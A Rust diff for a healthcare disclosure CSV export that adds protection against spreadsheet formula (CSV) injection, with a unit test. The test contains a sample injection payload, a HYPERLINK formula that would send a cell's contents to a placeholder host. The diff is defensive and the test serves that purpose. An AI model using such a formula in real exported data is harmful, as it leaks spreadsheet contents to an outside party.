@@ -110,11 +110,19 @@ pub fn disclosures(
     Ok(out)
 }
 
+/// One RFC 4180 field. A field that a spreadsheet would read as a formula (it starts with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return — a break-glass reason is free text) gets a
+/// leading `'` so it stays text (OWASP "CSV injection").
 fn csv_field(text: &str) -> String {
+    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    };
     if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
-        text.to_owned()
+        text
     }
 }
 
@@ -178,6 +186,21 @@ mod tests {
     fn patient_references_normalise_to_ids() {
         assert_eq!(patient_id("Patient/123"), "123");
         assert_eq!(patient_id(" 123 "), "123");
+    }
+
+    #[test]
+    fn csv_fields_never_start_a_formula() {
+        assert_eq!(csv_field("plain"), "plain");
+        assert_eq!(
+            csv_field("=HYPERLINK(\"https://x/?\"&A1,\"details\")"),
+            "\"'=HYPERLINK(\"\"https://x/?\"\"&A1,\"\"details\"\")\""
+        );
+        for risky in ["+1", "-1", "@SUM(A1)", "\tx"] {
+            assert!(
+                csv_field(risky).trim_start_matches('"').starts_with('\''),
+                "{risky}"
+            );
+        }
     }
 
     #[test]
